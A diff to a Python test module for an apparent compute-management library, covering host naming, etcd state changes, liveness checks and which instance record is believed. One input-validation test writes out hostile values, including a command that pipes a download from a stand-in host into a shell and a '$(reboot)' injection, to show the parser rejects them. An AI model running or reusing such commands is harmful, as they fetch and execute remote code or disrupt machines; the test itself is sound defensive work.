@@ -1,31 +1,50 @@
-"""A compute as both planes tell of it: its state, what lives there, and what may be removed with it."""
+"""Computes as both planes describe them: names, state, whose record counts, what may be removed."""
 
 from __future__ import annotations
 
 import json
-from dataclasses import replace
+from dataclasses import dataclass, replace
+from typing import NamedTuple
 
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from ecomp.cli.operators import as_hosts
+from ecomp.model import keys
 from ecomp.model.allocation import Room
 from ecomp.model.host import (
+    NOBODY,
     Computes,
     Host,
     InEtcd,
     InPlacement,
     Leftovers,
     Living,
+    Places,
+    by_instance,
+    changed_hosts,
+    hostname_in,
     hosts,
+    is_hostname,
     leftovers,
     living,
+    living_in,
     refusal,
+    silent_cure,
     there,
+    to_json,
+    unproven,
 )
 from ecomp.model.order import Invalid, Request
-from ecomp.model.record import Failure, Record
+from ecomp.model.record import ACTIVE, GONE, Failure, Record
+from ecomp.model.record import to_json as record_text
 from ecomp.model.status import BY_OPERATOR, DISABLED
+from ecomp.store.client import Entry
 from tests.kit.forms import text
+
+# A compute as both planes tell of it: its state, what lives there, and what may be removed with it.
+
 
 HOST, OTHER = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'ab')
 A, B, C, D, E = (f'{digit * 8}-0000-4b0f-8d87-0d8f1f2a6b01' for digit in '12345')
@@ -262,3 +281,221 @@ def test_what_is_still_there() -> None:
     records = {A: record(A, 'active'), B: record(B, 'destroying'), C: record(C, 'gone'), D: record(D, 'active', OTHER)}
     etcd = InEtcd(requests={HOST: {A: wish(A), B: tombstone(B), C: wish(C)}}, records=records)
     assert there(HOST, etcd) == {A, B}
+
+
+# What is asked of many computes, told apart.
+
+
+KEYS = st.tuples(st.sampled_from('abc'), st.sampled_from('uvw')).map(lambda each: keys.request(*each))
+STATES = st.dictionaries(KEYS, st.integers(1, 3))
+
+
+def state_of(revisions: dict[str, int]) -> dict[str, Entry]:
+    return {key: Entry(key, b'', revision) for key, revision in revisions.items()}
+
+
+@given(STATES, STATES)
+def test_who_is_told_is_told_all_and_nobody_is_forgotten(before: dict[str, int], after: dict[str, int]) -> None:
+    known = state_of(before)
+    of_each = changed_hosts({}, known, {})
+    kept = {compute: dict(each) for compute, each in of_each.items()}
+    told = changed_hosts(known, state_of(after), of_each)
+    assert of_each == kept, 'what was told before is never changed'
+    for compute in 'abc':
+        was, now = (
+            {key: each for key, each in revisions.items() if key.startswith(keys.request_prefix(compute))}
+            for revisions in (before, after)
+        )
+        assert (compute in told) == (was != now)
+        if compute in told:
+            assert told[compute] == state_of(now)
+
+
+def test_a_value_that_is_kept_by_now_is_told() -> None:
+    key = keys.request('a', 'u')
+    long, kept = Entry(key, b'', 7, dropped=2000), Entry(key, b'{}', 7)
+    assert changed_hosts({key: long}, {key: kept}, {'a': {key: long}}) == {'a': {key: kept}}
+    assert changed_hosts({key: kept}, {key: Entry(key, b'{}', 7)}, {'a': {key: kept}}) == {}
+
+
+# What computes are called: by their hosts' names, up or not, and by a uuid where that says more.
+
+
+HV1, HV2, HV3 = (f'{digit * 8}-3a52-4b0f-8d87-0d8f1f2a6b01' for digit in 'abc')
+
+
+def test_a_compute_is_called_by_its_hosts_name_also_while_it_is_away() -> None:
+    known = Computes({HV1: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
+    assert [known.host(each) for each in (HV1, HV2, HV3)] == ['hv1', 'hv2', None]
+    assert [known.called(each) for each in (HV1, HV2, HV3)] == ['hv1', 'hv2', HV3]
+    assert (known.named('hv1'), known.named('hv2'), known.named('hv3')) == ([HV1], [HV2], [])
+    assert NOBODY.called(HV1) == HV1
+
+
+def test_what_it_says_while_it_is_alive_comes_before_what_is_remembered() -> None:
+    known = Computes({HV1: Living('new'), HV2: Living()}, {HV1: 'old', HV2: 'hv2'})
+    assert (known.called(HV1), known.called(HV2), known.named('old')) == ('new', 'hv2', [])
+
+
+def test_of_two_with_one_name_the_uuid_is_said_also_where_one_alone_lives() -> None:
+    """A compute that was taken over could take what `--on` has for a host that is down, by calling itself so."""
+    both = Computes({HV1: Living('hv1'), HV2: Living('hv1')}, {HV3: 'hv1'})
+    assert (both.named('hv1'), both.called(HV1)) == ([HV1, HV2, HV3], f'hv1 ({HV1})')
+    taken = Computes({HV2: Living('hv1')}, {HV1: 'hv1', HV2: 'hv2'})
+    assert taken.named('hv1') == [HV1, HV2]
+    assert (taken.called(HV2), taken.called(HV1)) == (f'hv1 ({HV2})', f'hv1 ({HV1})')
+    # A host that was set up anew has another uuid, and its name is its own once the old one is forgotten.
+    anew = Computes({HV2: Living('hv1')}, {HV2: 'hv1'})
+    assert (anew.named('hv1'), anew.called(HV2)) == ([HV2], 'hv1')
+
+
+def test_a_text_is_told_with_names_and_a_path_is_left() -> None:
+    known = Computes({}, {HV1: 'hv1'})
+    assert known.translated(f'it is on compute {HV1}, {HV1}: and {HV2}') == f'it is on compute hv1, hv1: and {HV2}'
+    for path in (f'/hosts/{HV1}/x', f'/instances/{HV1}', f'{HV1}/x', f'{HV1}-0', f'0{HV1}'):
+        assert known.translated(path) == path
+
+
+@pytest.mark.parametrize(
+    'word',
+    ['', 'a b', 'hv1\n', '\x1b[2J', 'ü', '.hv1', '-hv1', 'h' * 254, HV1, HV1.upper(), HV1.replace('-', ''), None, 7],
+)
+def test_no_host_name(word: object) -> None:
+    assert not is_hostname(word)
+    assert hostname_in(json.dumps({'version': 1, 'hostname': word}).encode()) is None
+
+
+@pytest.mark.parametrize('word', ['hv1', 'HV-1.example.org', '10', '_x', 'cafe'])
+def test_host_names(word: str) -> None:
+    assert hostname_in(to_json(word).encode()) == word
+
+
+def test_what_a_living_compute_says_is_believed_as_far_as_it_makes_sense() -> None:
+    said = {'hostname': 'hv1', 'version': '1.1.0', 'kind': 'kvm', 'queues': True, 'token': 'x'}
+    assert living_in(json.dumps(said).encode()) == Living('hv1', '1.1.0', 'kvm', True)
+    assert living_in(b'{"hostname": "hv1", "version": "1.0.0"}') == Living('hv1', '1.0.0')
+    for value in (b'', b'[]', b'{"hostname": 1, "version": [], "kind": "", "queues": "yes"}', b'\xff'):
+        assert living_in(value) == Living()
+    assert living_in(json.dumps({'version': 'v' * 10_000}).encode()) == Living(version='v' * 64)
+    for version in ("9'; curl evil.example|sh; '", '9 9', '$(reboot)', '9\n'):
+        assert living_in(json.dumps({**said, 'version': version}).encode()) == Living('hv1', None, 'kvm', True)
+
+
+def test_that_nobody_takes_from_queues_is_said_where_it_is_known() -> None:
+    assert 'no compute takes from queues: `queues: True`' in str(NOBODY.no_taker)
+    assert 'no compute takes' in str(Computes({HV1: Living('hv1', queues=False)}).no_taker)
+    told = str(Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2'), HV3: Living('hv3')}).no_taker)
+    assert 'of hv2 and 1 more, of an older version, it is not known' in told
+    assert Computes({HV1: Living('hv1', queues=False), HV2: Living('hv2')}).unserved(['web1']) is None
+    nobody = Computes({HV1: Living('hv1', queues=False)})
+    assert str(nobody.unserved(['web1'])).startswith('web1 waits in a queue, and no compute takes from queues: ')
+    assert str(nobody.unserved(['a', 'b', 'c'])).startswith('a and 2 more wait in a queue, and no compute')
+    assert nobody.unserved([]) is None
+    some = Computes({HV2: Living('hv2', queues=True), HV1: Living('hv1', queues=True), HV3: Living('hv3')})
+    assert (some.takers, some.no_taker) == ([HV1, HV2], None)
+
+
+class Presence(NamedTuple):
+    """A presence key, as far as this is about it."""
+
+    revision: int
+    lease: int
+    value: bytes = b'{}'
+    created: int = 1
+
+
+def test_a_presence_key_proves_life_only_if_it_was_written_since_or_every_lease_has_ended() -> None:
+    providers = {HV1: HV1, HV2: HV2, HV3: HV3, 'd': 'a-shared-disk'}
+    restored = {HV1: Presence(5, 1), HV2: Presence(9, 1), HV3: Presence(9, 0)}
+    restored = {f'/computes/{compute}': each for compute, each in restored.items()}
+    assert unproven(providers, restored, 5, has_lease_ended=False) == [HV1, HV3]
+    assert unproven(providers, restored, 5, has_lease_ended=True) == [HV3]
+    assert unproven(providers, {}, 5, has_lease_ended=True) == [HV1, HV2, HV3]
+    assert unproven({}, restored, 5, has_lease_ended=False) == []
+
+
+def test_a_cure_that_names_a_command_names_one_word_for_the_host() -> None:
+    """Of two hosts with one name a shell would refuse the parentheses."""
+    assert 'host forget hv2 --fenced' in silent_cure('hv2')
+    uuid = 'c0000000-0000-4000-8000-000000000003'
+    assert f'host forget {uuid} --fenced' in silent_cure(f'hv2 ({uuid})')
+
+
+# Which record of an instance is believed, where several keys speak of it.
+
+
+INSTANCE = 'd578fb7c-7787-4e73-b69a-a7b3ef9bf73a'
+ONE, TWO = 'b8756be5-a30d-4311-920c-0ad996367a8e', '5ca1ab1e-0000-4000-8000-000000000000'
+
+
+@dataclass
+class Value:
+    value: bytes
+    created: int
+    revision: int = 0
+
+
+def record_at(compute: str, state: str, created: int) -> Value:
+    return Value(record_text(Record(INSTANCE, compute, state)).encode(), created)
+
+
+def found(*pairs: tuple[str, Value]) -> Places[Value]:
+    return by_instance(pairs)[INSTANCE]
+
+
+@pytest.mark.fast
+@pytest.mark.parametrize('rubbish', [b'', b'null', b'{"version": 2}', b'[' * 100])
+def test_what_cannot_be_read_at_the_older_place_hides_no_record(rubbish: bytes) -> None:
+    """Else an instance that has ended looks for ever as if it had not: its request, which would tell, is gone."""
+    ended = record_at(ONE, GONE, created=9)
+    pairs = [(keys.old_record(INSTANCE), Value(rubbish, 1)), (keys.record(ONE, INSTANCE), ended)]
+    assert found(*pairs).record is found(*reversed(pairs)).record is ended
+    alone = Value(rubbish, 1)
+    assert found((keys.old_record(INSTANCE), alone)).record is alone, 'it is all there is'
+
+
+@pytest.mark.fast
+def test_of_several_that_can_be_read_the_oldest_key_is_believed() -> None:
+    first, later = record_at(ONE, ACTIVE, created=2), record_at(TWO, ACTIVE, created=5)
+    assert found((keys.record(TWO, INSTANCE), later), (keys.record(ONE, INSTANCE), first)).compute == ONE
+    # What was taken out of its queue is gone, whatever a compute writes of it later.
+    nobody_s = record_at('', GONE, created=2)
+    assert found((keys.record(TWO, INSTANCE), later), (keys.record('', INSTANCE), nobody_s)).record is nobody_s
+
+
+@pytest.mark.fast
+def test_who_is_asked_is_believed_before_who_has_a_record() -> None:
+    pairs = [(keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1)), (keys.request(ONE, INSTANCE), Value(b'{}', 7))]
+    assert (found(*pairs).compute, found(*pairs).record) == (ONE, None)
+
+
+@pytest.mark.fast
+def test_of_several_that_are_asked_the_one_that_holds_the_claim_is_believed() -> None:
+    """Whoever wants to be taken for it may write before it is delivered: its uuid is public by then."""
+    forged, right = Value(b'{}', 3), Value(b'{}', 7)
+    pairs = [(keys.request(ONE, INSTANCE), forged), (keys.request(TWO, INSTANCE), right)]
+    pairs += [(keys.record(ONE, INSTANCE), record_at(ONE, GONE, 4))]
+    pairs += [(keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 8))]
+    for claims, compute, asked in (
+        ({TWO: [INSTANCE]}, TWO, [ONE, TWO]),
+        ({ONE: [INSTANCE]}, ONE, [ONE]),
+        ({ONE: [INSTANCE], TWO: [INSTANCE]}, ONE, [ONE]),
+        ({ONE: ['another']}, ONE, [ONE, TWO]),
+    ):
+        at, told = found(*pairs), []
+
+        def claims_of(each: str, claims: dict[str, list[str]] = claims, told: list[str] = told) -> list[str]:
+            told.append(each)
+            return claims.get(each, [])
+
+        at.judge(INSTANCE, claims_of)
+        assert (at.compute, told) == (compute, asked)
+        assert at.record is dict(pairs)[keys.record(compute, INSTANCE)]
+
+
+@pytest.mark.fast
+def test_of_one_that_is_asked_nobody_asks_placement() -> None:
+    pairs = [(keys.request(ONE, INSTANCE), Value(b'{}', 3)), (keys.record(TWO, INSTANCE), record_at(TWO, ACTIVE, 1))]
+    at = found(*pairs)
+    at.judge(INSTANCE, lambda _: pytest.fail('asked'))
+    assert at.compute == ONE
